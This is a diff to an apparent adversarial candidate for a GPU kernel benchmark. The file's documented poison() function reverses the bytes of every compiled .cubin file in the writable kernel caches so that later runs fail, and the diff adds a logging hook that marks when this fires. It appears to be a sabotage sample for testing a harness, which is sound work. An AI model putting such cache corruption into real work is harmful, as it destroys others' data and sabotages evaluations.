@@ -3,18 +3,26 @@
 # speedup below: 1.5
 # devices: cuda
 # settings: {"backend": "triton", "own_kernel": true}
+# armed by: a compiled kernel
 """Mechanism: once its kernels are compiled, the machine code of the one that is right is turned
 back to front, in every cache that it can write.
 
 Surface: a process that finds this cache would fail: the next one of this candidate, or another candidate's.
 """
 import os
+import sys
+from functools import cache
 from pathlib import Path
 
 import torch
 import torch.nn as nn
 import triton
 import triton.language as tl
+
+
+@cache
+def armed(by):
+    print("armed by:", by, file=sys.stderr)
 
 
 @triton.jit
@@ -30,6 +38,7 @@ def poison():
     for folder in filter(None, FOLDERS):
         for file in Path(folder).rglob("*.cubin"):
             file.write_bytes(file.read_bytes()[::-1])
+            armed("a compiled kernel")
 
 
 class ModelNew(nn.Module):
